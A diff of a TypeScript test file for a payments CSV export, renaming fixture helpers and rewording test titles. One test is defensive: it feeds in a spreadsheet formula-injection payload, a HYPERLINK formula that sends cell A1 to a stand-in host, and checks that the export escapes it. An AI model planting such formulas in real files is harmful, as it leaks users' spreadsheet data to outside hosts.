@@ -3,7 +3,7 @@ import { get } from 'node:http';
 import { text } from 'node:stream/consumers';
 import { eventually } from '@evenkeel/platform/testing';
 import { noon, Reporting, TOKEN } from '../reporting.fixture';
-import { aPayment, told, WALLET } from '../story.fixture';
+import { aPayment, publishedOf, WALLET } from '../story.fixture';
 import { PAYMENT_TITLES } from './export-payments';
 
 let reporting: Reporting;
@@ -42,7 +42,7 @@ async function manyPayments(count: number): Promise<void> {
 describe('payments as CSV', () => {
   it('are a file with a title for each field', async () => {
     const payment = aPayment({ tier: 'tier_1', rebateMicros: 2_500 });
-    await reporting.tell(...told([payment]));
+    await reporting.publish(...publishedOf([payment]));
     const { status, headers, ...file } = await reporting.read('payments.csv?days=7');
     expect(status).toBe(200);
     expect(Object.fromEntries(headers)).toMatchObject({
@@ -61,11 +61,11 @@ describe('payments as CSV', () => {
     ]);
   });
 
-  it('are those of the days asked for, newest first, of one status if so asked', async () => {
+  it('are those of the requested days and status, newest first', async () => {
     const days = ['2026-02-03T23:59:59.999Z', '2026-02-04T00:00:00.000Z', '2026-02-10T23:59:59.999Z'];
     const [tooOld, oldest, newest] = days.map((text) => aPayment({ verifiedAt: new Date(text) }));
     const open = aPayment({ states: ['settlement_pending'] });
-    await reporting.tell(...told([tooOld!, oldest!, newest!, open]));
+    await reporting.publish(...publishedOf([tooOld!, oldest!, newest!, open]));
     const ids = async (search: string) =>
       linesOf((await reporting.read(`payments.csv${search}`)).text)
         .slice(1)
@@ -75,10 +75,10 @@ describe('payments as CSV', () => {
     expect(await ids('?days=365')).toHaveLength(4);
   });
 
-  it('run nothing in a spreadsheet, whatever a caller sent for a request id', async () => {
-    const [event] = told([aPayment()]);
+  it('run nothing in a spreadsheet, whatever the request id of a caller', async () => {
+    const [event] = publishedOf([aPayment()]);
     const requestId = '=HYPERLINK("http://x.example?"&A1,"open")';
-    await reporting.tell({ ...event!, data: { ...event!.data, requestId } });
+    await reporting.publish({ ...event!, data: { ...event!.data, requestId } });
     const file = await reporting.read('payments.csv');
     expect(file.text).toContain(`,"'=HYPERLINK(""http://x.example?""&A1,""open"")"\r\n`);
   });
@@ -101,7 +101,7 @@ describe('a reader', () => {
     return { request, response };
   };
 
-  it('who goes away ends the query', async () => {
+  it('ends the query by going away', async () => {
     await manyPayments(30_000);
     const { request, response } = await open();
     response.pause();
@@ -110,7 +110,7 @@ describe('a reader', () => {
     await eventually(async () => expect(await exportsInDatabase()).toBe(0));
   });
 
-  it('whose query the database ends sees it, and others go on', async () => {
+  it('gets an error when the database ends its query, and other readers go on', async () => {
     await manyPayments(30_000);
     const { response } = await open();
     response.pause();
@@ -123,7 +123,7 @@ describe('a reader', () => {
     await eventually(async () => expect((await reporting.read('payments.csv')).status).toBe(200));
   });
 
-  it('who is the third at once waits, until another is gone', async () => {
+  it('waits when two others are reading, until one of them has finished', async () => {
     await manyPayments(30_000);
     const readers = [await open(), await open()];
     for (const { response } of readers) response.pause();
